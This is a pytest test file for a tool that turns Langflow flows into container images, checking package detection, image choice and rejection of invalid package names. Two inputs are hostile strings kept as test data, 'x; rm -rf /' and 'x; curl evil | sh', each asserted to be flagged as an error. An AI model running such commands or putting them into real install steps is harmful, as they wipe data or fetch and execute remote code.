from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from chartgen.runtimes.langflow import facts, graph
from chartgen.runtimes.langflow import packages as chosen
from tests.flows_factory import codes, component, flow, found, load, model

VERSION = facts.load().version


def code(text: Any) -> dict[str, Any]:
    return component(code={"type": "code", "value": text})


def packages(text: Any, **options: Any) -> tuple[str, ...]:
    return load(flow(code(text)), **options).packages


def test_a_flow_that_needs_nothing_stands_on_the_small_image() -> None:
    app = load(flow(code("import os\nfrom lfx.custom import Component")))
    assert app.base.profile == "base"
    assert app.base.reference.endswith(f":{VERSION}")
    assert "nothing beyond Langflow" in app.base.reason
    assert app.packages == ()


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("import yfinance", "yfinance"),
        ("from googleapiclient.discovery import build", "google-api-python-client"),
        ("def f():\n    import cv2", "opencv-python"),
        ("try:\n    import yfinance\nexcept ImportError: pass", "yfinance"),
        ("from some_tool.part import x", "some-tool"),
        ("from .part import x\nimport yfinance", "yfinance"),
        (["import yfinance", "class A: pass"], "yfinance"),
    ],
)
def test_what_the_code_imports_and_the_base_lacks_is_installed(text: Any, wanted: str) -> None:
    assert packages(text) == (wanted,)


@pytest.mark.parametrize(
    "text", ["from . import x", "import json", "import pydantic", "import lfx"]
)
def test_what_is_there_is_not_installed(text: str) -> None:
    assert packages(text) == ()


def test_noted_dependencies_count() -> None:
    node = component()
    noted = [{"name": "yfinance", "version": "1"}, {"name": "lfx"}, {"name": None}, "x"]
    node["data"]["node"]["metadata"] = {"dependencies": {"dependencies": noted}}
    assert load(flow(node)).packages == ("yfinance",)


@pytest.mark.parametrize(
    "metadata",
    [
        None,
        [],
        "x",
        {"dependencies": None},
        {"dependencies": []},
        {"dependencies": {"dependencies": 5}},
    ],
)
def test_strange_metadata_means_no_dependencies(metadata: Any) -> None:
    node = component()
    node["data"]["node"]["metadata"] = metadata
    assert load(flow(node)).packages == ()


def test_the_provider_of_a_model_needs_its_package() -> None:
    assert load(flow(component(m=model("OpenAI")))).packages == ("langchain-openai",)


def test_components_of_a_bundle_that_only_the_full_image_has_choose_it() -> None:
    app = load(flow(code("from lfx.components.openai.openai import OpenAIModelComponent")))
    assert app.base.profile == "full"
    assert "Support bot → Acme" in app.base.reason
    assert f"langflow=={VERSION}" in app.constraints


def test_the_full_image_gets_the_memory_that_it_needs_and_packaging_says_so() -> None:
    app = load(flow(code("from lfx.components.openai.openai import OpenAIModelComponent")))
    assert app.runtime.memory_request == "768Mi"
    assert "768Mi" in found(app, "more-memory").message
    small = load(flow())
    assert not small.runtime.memory_request
    assert not [one for one in small.findings if one.code == "more-memory"]


def test_many_packages_that_the_full_image_has_choose_it() -> None:
    known = facts.load()
    extra = sorted(known.full_imports.keys() - known.base_imports.keys())
    lines = [
        f"import {name}"
        for name in extra
        if known.full_imports[name] in known.full_distributions - known.base_distributions
    ]
    few, many = load(flow(code(lines[:2]))), load(flow(code(lines[:8])))
    assert (few.base.profile, many.base.profile) == ("base", "full")
    assert "packages that only the full image has" in many.base.reason
    assert many.packages == ()


def test_many_packages_that_no_image_has_choose_the_small_one() -> None:
    app = load(flow(code([f"import strange{n}" for n in range(8)])))
    assert (app.base.profile, len(app.packages)) == ("base", 8)


def modules(*lines: Any, **options: Any) -> list[tuple[str, str]]:
    found = load(flow(*(code(line) for line in lines)), **options).modules
    return [(one.name, one.package) for one in found]


@pytest.mark.parametrize(
    ("text", "module", "package"),
    [
        ("import yfinance", "yfinance", "yfinance"),
        ("import yfinance as yf, json", "yfinance", "yfinance"),
        ("import some_tool.part", "some_tool.part", "some-tool"),
        ("from some_tool.part import x", "some_tool.part.x", "some-tool"),
        ("from some_tool.part import *", "some_tool.part", "some-tool"),
        ("from google import genai", "google.genai", "google-genai"),
        ("import cv2", "cv2", "opencv-python"),
    ],
)
def test_what_code_imports_as_it_is_loaded_is_expected_of_its_package(
    text: str, module: str, package: str
) -> None:
    assert modules(text) == [(module, package)]


@pytest.mark.parametrize(
    "text",
    [
        "def f():\n    import yfinance",
        "try:\n    import yfinance\nexcept ImportError: yfinance = None",
        "if TYPE_CHECKING:\n    import yfinance",
        "class A:\n    def run(self):\n        from yfinance import Ticker",
        "with suppress(ImportError):\n    import yfinance",
    ],
)
def test_what_code_imports_later_or_does_without_is_installed_and_not_expected(text: str) -> None:
    assert packages(text) == ("yfinance",)
    assert modules(text) == []


def test_nothing_is_expected_of_what_the_image_has_nor_of_what_no_code_imports() -> None:
    assert modules("import pydantic, json, lfx") == []
    assert load(flow(component(m=model("OpenAI")))).modules == ()
    assert modules("x = 1", packages=("acme",)) == []


def test_a_module_names_every_component_that_imports_it_once() -> None:
    nodes = [
        component(name="One", node_id="a", code={"type": "code", "value": "import yfinance"}),
        component(name="Two", node_id="b", code={"type": "code", "value": "import yfinance"}),
        component(name="Two", node_id="c", code={"type": "code", "value": "import yfinance"}),
    ]
    [found] = load(flow(*nodes), flow(nodes[0], name="Triage")).modules
    assert [str(use) for use in found.used_by] == [
        *("Support bot → One", "Support bot → Two", "Triage → One"),
    ]


def test_what_a_library_only_needs_to_run_is_not_expected_to_bring_it() -> None:
    known = facts.load()
    lacking = replace(known, base_distributions=known.base_distributions - {"lxml"})
    [node] = graph.components("Bot", {"nodes": [code("import bs4")], "edges": []})
    assert chosen.choose(chosen.wanted(node, lacking), lacking).modules == ()


@pytest.mark.parametrize(
    ("said", "package"),
    [
        ({"some_tool": "acme-tools"}, "acme-tools"),
        ({"some_tool": "Acme-Tools>=2"}, "acme-tools>=2"),
        ({"some_tool.part": "acme-tools"}, "acme-tools"),
        ({"some_tool.other": "acme-tools"}, "some-tool"),
    ],
)
def test_the_user_may_say_which_package_has_a_module(said: dict[str, str], package: str) -> None:
    text = "from some_tool.part import x"
    assert packages(text, modules=said) == (package,)
    assert modules(text, modules=said) == [("some_tool.part.x", package)]


@pytest.mark.parametrize("said", ["", "pydantic"])
def test_the_user_may_say_that_nothing_need_be_added_for_a_module(said: str) -> None:
    text = "import some_tool\ndef f():\n    import some_tool.part"
    assert packages(text, modules={"some_tool": said}) == ()
    assert modules(text, modules={"some_tool": said}) == []


def test_a_module_whose_package_is_none_is_an_error() -> None:
    app = load(flow(code("import some_tool")), modules={"some_tool": "git+https://x"})
    assert found(app, "bad-package").level == "error"


def test_what_a_library_asks_for_only_when_it_runs_comes_along() -> None:
    known = facts.load()
    lacking = replace(known, base_distributions=known.base_distributions - {"lxml"})
    [node] = graph.components("Bot", {"nodes": [code("import bs4")], "edges": []})
    assert chosen.choose(chosen.wanted(node, lacking), lacking).packages == ("lxml",)
    assert chosen.choose(chosen.wanted(node, known), known).packages == ()


def test_an_image_of_the_users_own_gets_everything_that_is_missing() -> None:
    app = load(flow(component(m=model("OpenAI"))), base="registry.example.com/own:1")
    assert (app.base.reference, app.base.profile) == ("registry.example.com/own:1", "custom")
    assert app.packages == ("langchain-openai",)


def test_the_runtimes_own_packages_are_pinned() -> None:
    assert load(flow()).constraints == (f"langflow-base=={VERSION}", f"lfx=={VERSION}")


def test_packages_named_by_the_user_are_added() -> None:
    assert packages("x = 1", packages=("acme[all]>=2,<3",)) == ("acme[all]>=2,<3",)


@pytest.mark.parametrize(
    "text", ["--index-url=http://x", "a b", "x; rm -rf /", "git+https://x", ""]
)
def test_a_package_that_is_none_is_an_error(text: str) -> None:
    finding = found(load(flow(), packages=(text,)), "bad-package")
    assert finding.level == "error"


def test_a_hostile_dependency_is_an_error_too() -> None:
    node = component()
    noted = [{"name": "x; curl evil | sh"}]
    node["data"]["node"]["metadata"] = {"dependencies": {"dependencies": noted}}
    assert codes(load(flow(node)), "error") == ["bad-package"]


@pytest.mark.parametrize(
    "text",
    [
        "def f(:",
        "x = 'open",
        "(" * 5000,
        "-" * 200_000 + "1",
        "a." * 100_000 + "a",
        "[" * 50 + "0\0" + "]" * 50,
    ],
    ids=["syntax", "quote", "brackets", "minuses", "dots", "nul"],
)
def test_code_that_cannot_run_is_an_error_and_no_traceback(text: str) -> None:
    app = load(flow(code(text)))
    assert set(codes(app, "error")) <= {"broken-code", "broken-flow", "no-flows"}
    assert codes(app, "error")


def test_broken_code_is_named_by_its_line() -> None:
    finding = found(load(flow(code("x = 1\ndef f(:\n"))), "broken-code")
    assert "line 2" in finding.message
    assert finding.at == "$.data.nodes[0].data.node.template.code.value"
